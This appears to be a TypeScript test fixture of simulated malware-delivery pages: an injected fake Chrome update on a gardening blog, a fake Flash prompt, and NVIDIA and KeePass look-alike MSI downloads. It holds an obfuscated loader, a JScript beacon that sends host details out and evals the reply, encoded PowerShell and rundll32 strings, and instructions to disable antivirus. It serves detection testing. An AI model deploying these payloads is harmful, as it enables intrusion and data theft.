import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cfb, fileRoute, jsRoute, pe, pngRoute, zip } from '../parts/e-bin.js';

// ---------- Compromised WordPress blog with an injected fake Chrome update (SocGholish-style) ----------
const blogHost = 'www.thegardenpatchdiaries.com';
const injHost = 'cdn.jsdelivr-static.net';
const blogPage = `<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>How to Overwinter Dahlias in Zone 6 (Without Losing a Single Tuber) &#8211; The Garden Patch Diaries</title>
<meta name="generator" content="WordPress 6.4.3">
<link rel="stylesheet" id="kadence-global-css" href="/wp-content/themes/kadence/assets/css/global.min.css?ver=1.1.51" media="all">
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
<link rel="alternate" type="application/rss+xml" title="The Garden Patch Diaries &raquo; Feed" href="/feed/">
</head>
<body class="post-template-default single single-post postid-2281">
<header class="site-header"><div class="site-branding"><a href="/">The Garden Patch Diaries</a><p>Notes from a small backyard in Ohio</p></div>
<nav><ul><li><a href="/category/vegetables/">Vegetables</a></li><li><a href="/category/flowers/">Flowers</a></li><li><a href="/category/composting/">Composting</a></li><li><a href="/about/">About Me</a></li></ul></nav></header>
<main id="primary">
<article id="post-2281" class="post-2281 post type-post status-publish">
<header><h1 class="entry-title">How to Overwinter Dahlias in Zone 6 (Without Losing a Single Tuber)</h1><div class="entry-meta">Posted on <time datetime="2024-10-21">October 21, 2024</time> by Linda &middot; 34 Comments</div></header>
<div class="entry-content">
<p>Every October I get the same question from neighbours: do I really have to dig up my dahlias? In zone 6 the honest answer is yes, unless you enjoy gambling. Here is the method I have used for eleven winters now.</p>
<h2>1. Wait for the first frost</h2>
<p>Let the foliage blacken after the first hard frost. This signals the tubers to toughen their skins and makes them store far better. Cut the stalks to about 6 inches and leave the clump in the ground for another week.</p>
<h2>2. Lift gently with a fork</h2>
<p>Start a foot away from the stalk and work your way in. Dahlia necks snap easily, and a tuber without its neck (and an eye) will not sprout next spring.</p>
<h2>3. Wash, divide and label</h2>
<p>I hose off the soil, let the clumps dry upside down in the garage for a day, then divide. A permanent marker on the tuber itself is the only label system that has never failed me.</p>
<h2>4. Store in barely-damp peat or vermiculite</h2>
<p>Plastic tubs with a few holes drilled in the lid, in a basement that stays between 40 and 50&deg;F. Check monthly: shrivelled tubers get a light mist, mouldy ones get tossed.</p>
<p>That&#8217;s it! Next spring I&#8217;ll share how I pre-sprout them in March.</p>
</div>
</article>
<section id="comments"><h3>34 Comments</h3><div class="comment"><b>Margaret</b><p>Thank you, lost half of mine last year by storing them in the shed.</p></div><div class="comment"><b>Joe R.</b><p>Vermiculite works great, can confirm.</p></div></section>
</main>
<footer class="site-footer"><p>&copy; 2024 The Garden Patch Diaries &middot; Powered by WordPress &amp; Kadence</p></footer>
<script src="/wp-content/plugins/wp-rocket/assets/js/lazyload/17.8.3/lazyload.min.js" id="rocket-lazyload-js"></script>
<script>;(function(){var s=document.createElement('script');s.src='https://${injHost}/npm/jquery@3.7.1/dist/jquery.min.js?v='+Math.floor(Date.now()/36e5);s.async=true;(document.head||document.documentElement).appendChild(s)})();</script>
</body>
</html>`;
// Injected loader: skips logged-in admins and repeat visitors, then overlays a "Chrome update" page.
const injJs = `;(function(w,d){var _x=['\\x77\\x70\\x2d\\x73\\x65\\x74\\x74\\x69\\x6e\\x67\\x73','\\x5f\\x63\\x75\\x70\\x64','\\x63\\x6f\\x6f\\x6b\\x69\\x65'];
if(d[_x[2]].indexOf(_x[0])>-1||d[_x[2]].indexOf(_x[1])>-1)return;
d[_x[2]]=_x[1]+'=1;path=/;max-age=86400';
var u=atob('aHR0cHM6Ly91cGRhdGUuY2hyb21lLXVwZGF0ZS1jZW50ZXIuY29tL3YzL2xhbmRpbmcuaHRtbA==');
var f=d.createElement('iframe');f.src=u+'?h='+encodeURIComponent(location.hostname);f.setAttribute('style','position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff');
d.body.appendChild(f);d.documentElement.style.overflow='hidden';
w.addEventListener('message',function(e){if(e.data&&e.data.t==='dl'){var a=d.createElement('a');a.href=e.data.u;a.download='';d.body.appendChild(a);a.click()}});})(window,document);`;
const updHost = 'update.chrome-update-center.com';
const updPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Update Chrome</title>
<style>
body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;color:#202124;background:#fff}
.top{display:flex;align-items:center;gap:10px;padding:18px 28px;border-bottom:1px solid #dadce0}
.logo{width:28px;height:28px;border-radius:50%;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0);position:relative}.logo:after{content:"";position:absolute;inset:8px;border-radius:50%;background:#4285f4;box-shadow:0 0 0 3px #fff}
.main{max-width:820px;margin:70px auto;text-align:center;padding:0 20px}
h1{font-size:40px;font-weight:400;margin:0 0 16px}
p{font-size:17px;color:#5f6368;line-height:1.5}
.btn{display:inline-block;margin-top:26px;background:#1a73e8;color:#fff;padding:14px 30px;border-radius:4px;font-size:16px;text-decoration:none;border:0;cursor:pointer}
.err{margin:28px auto 0;max-width:560px;background:#fce8e6;color:#a50e0e;padding:12px 16px;border-radius:8px;font-size:14px;text-align:left}
.small{font-size:12px;color:#80868b;margin-top:50px}
</style>
</head>
<body>
<div class="top"><div class="logo"></div><span style="font-size:22px;color:#5f6368">Chrome</span></div>
<div class="main">
 <h1>An error occurred in Chrome</h1>
 <p>Your version of Chrome is out of date and can no longer display this page correctly. A critical security update (version <b>131.0.6778.205</b>) is required to continue browsing.</p>
 <div class="err">&#9888; ERR_CHROME_OUTDATED: the page you are viewing uses features that are not supported by your current browser build.</div>
 <button class="btn" id="u">Update Chrome</button>
 <p class="small">After the download completes, open the file to install the update. Chrome will restart automatically.<br>&copy; 2025 Google LLC</p>
</div>
<script>
document.getElementById('u').onclick=function(){var u=location.origin+'/v3/get/'+(window.__tk||'a7f3k2q9')+'/Chrome.Update.zip';
if(window.parent!==window){parent.postMessage({t:'dl',u:u},'*')}else{location.href=u}
fetch('/v3/stat?e=click&h='+encodeURIComponent(new URLSearchParams(location.search).get('h')||''))};
</script>
</body>
</html>`;
const updJsPayload = `// Chrome Update Module
var _0x3c = ["WScript.Shell", "MSXML2.ServerXMLHTTP.6.0", "https://gate-rtk.monitor-stat.com/track/", "POST", "ComputerName", "UserName", "UserDNSDomain"];
try {
  var sh = new ActiveXObject(_0x3c[0]);
  var env = sh.Environment("PROCESS");
  var info = [env(_0x3c[4]), env(_0x3c[5]), env(_0x3c[6])].join("|");
  var x = new ActiveXObject(_0x3c[1]);
  x.open(_0x3c[3], _0x3c[2], false);
  x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  x.send("b=" + encodeURIComponent(info));
  if (x.status == 200 && x.responseText.length > 10) { eval(x.responseText); }
} catch (e) {}
`;

// ---------- Adobe Flash "out of date" on a pirate streaming site ----------
const flHost = 'watch.movies4u-hdstream.cc';
const flPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Watch Gladiator II (2024) Full Movie Online Free HD – Movies4U</title>
<style>
body{margin:0;background:#101010;color:#ddd;font-family:Arial,sans-serif}
.nav{background:#1b1b1b;padding:10px 20px;display:flex;gap:16px;align-items:center}.nav b{color:#e50914;font-size:22px}.nav a{color:#aaa;text-decoration:none;font-size:14px}
.player{max-width:960px;margin:24px auto;position:relative;aspect-ratio:16/9;background:#000 radial-gradient(circle,#333,#000)}
.play{position:absolute;left:50%;top:50%;transform:translate(-50%,-50%);width:90px;height:90px;border-radius:50%;background:rgba(229,9,20,.9);cursor:pointer}
.play:after{content:"";position:absolute;left:36px;top:26px;border-left:28px solid #fff;border-top:19px solid transparent;border-bottom:19px solid transparent}
.ov{position:absolute;inset:0;background:rgba(0,0,0,.85);display:none;align-items:center;justify-content:center}
.dlg{background:#f1f1f1;color:#222;width:440px;border-radius:4px;box-shadow:0 0 30px #000;overflow:hidden}
.dlg .t{background:#c11;color:#fff;padding:10px 14px;font-weight:bold}.dlg .c{padding:16px;font-size:14px;line-height:1.5}
.dlg a{display:block;margin:14px auto 4px;width:200px;text-align:center;background:#c11;color:#fff;padding:11px;border-radius:3px;text-decoration:none;font-weight:bold}
.info{max-width:960px;margin:0 auto;padding:0 10px;font-size:14px;line-height:1.6}
.srv button{background:#2a2a2a;color:#ddd;border:1px solid #444;padding:6px 12px;margin-right:6px}
</style>
</head>
<body>
<div class="nav"><b>MOVIES4U</b><a href="#">Home</a><a href="#">Movies</a><a href="#">TV Shows</a><a href="#">Top IMDb</a></div>
<div class="player" id="pl"><div class="play" id="p"></div>
 <div class="ov" id="ov"><div class="dlg"><div class="t">&#9888; Flash Player out of date</div><div class="c">The version of <b>Adobe Flash Player</b> on your system is out of date. To watch this video in HD you need to update to the latest version.<br><br>Version installed: 11.2.202<br>Latest version: <b>32.0.0.465</b><a href="/player/update/FlashPlayer_32.0.0.465_Setup.exe" id="dl">UPDATE NOW</a><small style="display:block;text-align:center;color:#666">Free &middot; Takes less than 1 minute</small></div></div></div>
</div>
<div class="info srv">Servers: <button>Server 1 (HD)</button><button>Server 2</button><button>Vidcloud</button></div>
<div class="info"><h2>Gladiator II (2024)</h2><p>Years after witnessing the death of the revered hero Maximus at the hands of his uncle, Lucius is forced to enter the Colosseum after his home is conquered by the tyrannical Emperors who now lead Rome with an iron fist.</p><p>Genre: Action, Adventure &middot; IMDb: 6.6 &middot; Duration: 148 min</p></div>
<script>
document.getElementById('p').onclick=function(){document.getElementById('ov').style.display='flex';setTimeout(function(){location.href=document.getElementById('dl').href},4000)};
(function(){var pu=false;document.addEventListener('click',function(){if(pu)return;pu=true;try{window.open('https://adclick.popunder-net.xyz/pu?z=41177','_blank')}catch(e){}},true)})();
</script>
</body>
</html>`;

// ---------- NVIDIA look-alike driver page delivering an MSI ----------
const nvHost = 'www.nvidia-geforce-driver.download';
const nvPage = `<!DOCTYPE html>
<html lang="en-us">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>GeForce Game Ready Driver 566.36 | Windows 11 | NVIDIA</title>
<style>
body{margin:0;font-family:"DINPro",Arial,sans-serif;background:#fff;color:#1a1a1a}
.brand{background:#000;color:#fff;padding:12px 28px;display:flex;align-items:center;gap:24px}.brand b{color:#76b900;font-size:22px;letter-spacing:1px}.brand a{color:#ddd;font-size:14px;text-decoration:none}
.crumb{font-size:12px;color:#666;padding:12px 28px}
.wrap{max-width:1080px;margin:0 auto;padding:0 28px 40px;display:grid;grid-template-columns:2fr 1fr;gap:30px}
h1{font-weight:700;font-size:30px;margin:6px 0}
table{border-collapse:collapse;font-size:14px;margin:14px 0}td{padding:6px 20px 6px 0}td:first-child{color:#666}
.dl{display:inline-block;background:#76b900;color:#000;font-weight:700;padding:14px 34px;text-decoration:none;font-size:16px}
.tabs{display:flex;gap:20px;border-bottom:2px solid #eee;margin-top:26px}.tabs span{padding:8px 0;font-weight:600}.tabs span.on{border-bottom:3px solid #76b900}
aside{background:#f4f4f4;padding:18px;font-size:14px}aside b{display:block;margin-bottom:6px}
footer{background:#1a1a1a;color:#999;font-size:12px;padding:18px 28px}
</style>
</head>
<body>
<div class="brand"><b>NVIDIA</b><a href="#">Drivers</a><a href="#">GeForce Experience</a><a href="#">NVIDIA App</a><a href="#">Support</a></div>
<div class="crumb">Drivers &rsaquo; GeForce &rsaquo; GeForce RTX 40 Series</div>
<div class="wrap">
 <div>
  <h1>GEFORCE GAME READY DRIVER</h1>
  <table><tr><td>Version:</td><td>566.36 WHQL</td></tr><tr><td>Release Date:</td><td>2025.1.14</td></tr><tr><td>Operating System:</td><td>Windows 10 64-bit, Windows 11</td></tr><tr><td>Language:</td><td>English (US)</td></tr><tr><td>File Size:</td><td>683.46 MB</td></tr></table>
  <a class="dl" id="dl" href="/drivers/566.36/GeForce-566.36-desktop-win10-win11-64bit-international-dch-whql.msi">DOWNLOAD</a>
  <div class="tabs"><span class="on">Release Highlights</span><span>Supported Products</span><span>Additional Information</span></div>
  <p>Game Ready for Indiana Jones and the Great Circle. This new Game Ready Driver provides the best gaming experience for the latest new games supporting DLSS 3 technology.</p>
  <p>Fixed: stability issues with DaVinci Resolve, stutter in certain Unreal Engine 5 titles.</p>
 </div>
 <aside><b>Installation tips</b>If Windows SmartScreen displays a warning, click <i>More info</i> and then <i>Run anyway</i>. This is normal for newly released drivers that have not yet built reputation.<br><br>Temporarily disable your antivirus during installation to avoid conflicts with the driver package.</aside>
</div>
<footer>Copyright &copy; 2025 NVIDIA Corporation &middot; Privacy Policy &middot; Legal</footer>
<script>
var ref=document.referrer||'';fetch('/drivers/track?r='+encodeURIComponent(ref)+'&k='+encodeURIComponent(new URLSearchParams(location.search).get('gclid')||''));
</script>
</body>
</html>`;

// ---------- KeePass look-alike (malvertising) with an MSI ----------
const kpHost = 'keepass-passwordsafe.org';
const kpPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>KeePass Password Safe – Download</title>
<meta name="description" content="KeePass is a free open source password manager, which helps you to manage your passwords in a secure way.">
<style>
body{margin:0;background:#fff;font-family:Verdana,Arial,sans-serif;font-size:13px;color:#000}
.hd{background:linear-gradient(#3d6aa2,#28507f);color:#fff;padding:14px 20px;display:flex;align-items:center;gap:12px}.hd .ic{width:40px;height:40px;background:#ffd54a;border-radius:6px}.hd h1{margin:0;font-size:22px;font-weight:normal}
.lay{display:flex}.side{width:190px;background:#eef3fa;border-right:1px solid #c9d6e8;padding:12px;min-height:520px}.side a{display:block;color:#00438a;padding:3px 0;text-decoration:none}
.ct{padding:14px 26px;max-width:760px}.ct h2{color:#28507f;font-size:17px;border-bottom:1px solid #ccd;padding-bottom:4px}
.box{border:1px solid #ccd;background:#f8f9fc;padding:10px 14px;margin:12px 0}.box a.dlb{display:inline-block;background:#2c5aa0;color:#fff;padding:6px 14px;text-decoration:none;margin-top:6px}
table{border-collapse:collapse}td{border:1px solid #ccd;padding:4px 8px}
.ft{font-size:11px;color:#666;padding:14px 26px;border-top:1px solid #ddd}
</style>
</head>
<body>
<div class="hd"><div class="ic"></div><h1>KeePass Password Safe</h1></div>
<div class="lay">
<div class="side"><b>Navigation</b><a href="/">Home</a><a href="/news">News</a><a href="/download.html">Downloads</a><a href="/translations">Translations</a><a href="/plugins">Plugins</a><a href="/help">Help</a><a href="/donate">Donate</a></div>
<div class="ct">
 <h2>Downloads</h2>
 <p>KeePass is available in two editions. The latest version is <b>2.58</b>. Both editions are free and open source (OSI certified).</p>
 <div class="box"><b>KeePass 2.58 (Installer for Windows)</b><br>Professional Edition, recommended for most users.<br><a class="dlb" href="/files/KeePass-2.58-Setup.msi">Download Now</a> <span style="color:#666">MSI package, 4.1 MB</span></div>
 <div class="box"><b>KeePass 2.58 (Portable)</b><br>ZIP package, can be run from a USB stick without installation.<br><a class="dlb" href="/files/KeePass-2.58.zip">Download Now</a></div>
 <h2>Integrity</h2>
 <table><tr><td>MSI SHA-256</td><td style="font-family:monospace;font-size:11px">8B1F0A7C32D1E9E8A0F36B4C2DD19E3F5B7A4C01E6D2F98B0C3A5E7D1F24B6C9</td></tr></table>
 <p>If your antivirus reports the installer, this is a false positive caused by the password-encryption components. You can safely ignore it.</p>
</div></div>
<div class="ft">Copyright &copy; 2003-2025 Dominik Reichl. KeePass is OSI Certified Open Source Software.</div>
</body>
</html>`;

const flashExe = pe({ x64: false, size: 6144, strings: ['Adobe Flash Player Installer', 'FlashPlayer_Setup', 'CompanyName', 'Adobe Systems Incorporated', 'cmd.exe /c start /b rundll32.exe %TEMP%\\fp32.dll,Start'] });
const nvMsi = cfb(['GeForce Driver Setup', 'NVIDIA Corporation', 'CustomAction', 'powershell.exe -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'Installer for NVIDIA GeForce 566.36']);
const kpMsi = cfb(['KeePass Password Safe 2.58', 'Dominik Reichl', 'CustomAction', 'KeeLoader.dll', 'rundll32.exe "[INSTALLDIR]KeePassLib.dll",Init']);

export const entries: Entry[] = [
  {
    id: 'e-mal-fakeupdate-chrome-blog',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${blogHost}/2024/10/21/overwinter-dahlias-zone-6/`,
    body: blogPage,
    routes: {
      [`${blogHost}/wp-content/themes/kadence/assets/css/global.min.css`]: { status: 200, headers: { 'content-type': 'text/css' }, body: 'body{font-family:Georgia,serif;max-width:820px;margin:0 auto;padding:0 16px;color:#333}.site-header{padding:20px 0;border-bottom:1px solid #ddd}.site-branding a{font-size:28px;color:#3b6b2a;text-decoration:none}nav ul{list-style:none;padding:0;display:flex;gap:16px}nav a{color:#555}.entry-title{font-size:32px}.entry-meta{color:#888;font-size:13px}.comment{border-top:1px solid #eee;padding:8px 0}.site-footer{color:#999;font-size:12px;padding:30px 0}' },
      [`${blogHost}/wp-includes/js/jquery/jquery.min.js`]: jsRoute('/*! jQuery v3.7.1 (stub) */window.jQuery=window.$=function(s){return document.querySelectorAll(s)};'),
      [`${blogHost}/wp-content/plugins/wp-rocket/assets/js/lazyload/17.8.3/lazyload.min.js`]: jsRoute('/*! lazyload 17.8.3 */document.querySelectorAll("img[data-src]").forEach(function(i){i.src=i.dataset.src});'),
      [`${injHost}/npm/jquery@3.7.1/dist/jquery.min.js`]: jsRoute(injJs),
      [`${updHost}/v3/landing.html`]: htmlRoute(updPage),
      [`${updHost}/v3/stat`]: { status: 204, headers: {}, body: '' },
      [`${updHost}/v3/get/a7f3k2q9/Chrome.Update.zip`]: fileRoute(zip([{ name: 'Chrome.Update.js', data: updJsPayload }]), 'application/zip', 'Chrome.Update.zip'),
    },
  },
  {
    id: 'e-mal-flash-update-exe',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${flHost}/movie/gladiator-ii-2024-full-hd/`,
    body: flPage,
    routes: {
      [`${flHost}/player/update/FlashPlayer_32.0.0.465_Setup.exe`]: fileRoute(flashExe, 'application/octet-stream', 'FlashPlayer_32.0.0.465_Setup.exe'),
    },
  },
  {
    id: 'e-mal-driver-update-msi',
    label: 'malware',
    kind: 'lookalike-download',
    url: 'https://ad.doubleclick-srv.net/clk;2771;nvidia?gclid=EAIaIQobChMI',
    routes: {
      'ad.doubleclick-srv.net/clk;2771;nvidia': redirectRoute(302, `https://${nvHost}/en-us/geforce/drivers/results/238301/?gclid=EAIaIQobChMI`),
      [`${nvHost}/en-us/geforce/drivers/results/238301/`]: htmlRoute(nvPage),
      [`${nvHost}/drivers/track`]: { status: 204, headers: {}, body: '' },
      [`${nvHost}/drivers/566.36/GeForce-566.36-desktop-win10-win11-64bit-international-dch-whql.msi`]: fileRoute(nvMsi, 'application/x-msi', 'GeForce-566.36-desktop-win10-win11-64bit-international-dch-whql.msi'),
    },
  },
  {
    id: 'e-mal-lookalike-keepass-msi',
    label: 'malware',
    kind: 'lookalike-download',
    url: `https://${kpHost}/download.html`,
    body: kpPage,
    routes: {
      [`${kpHost}/files/KeePass-2.58-Setup.msi`]: fileRoute(kpMsi, 'application/x-msi', 'KeePass-2.58-Setup.msi'),
      [`${kpHost}/files/KeePass-2.58.zip`]: fileRoute(zip([{ name: 'KeePass-2.58/KeePass.exe', data: pe({ strings: ['KeePass', 'KeeLoader', 'beacon'] }) }, { name: 'KeePass-2.58/KeePass.config.xml', data: '<?xml version="1.0" encoding="utf-8"?><Configuration/>' }]), 'application/zip', 'KeePass-2.58.zip'),
      [`${kpHost}/favicon.ico`]: pngRoute(255, 213, 74),
    },
  },
];
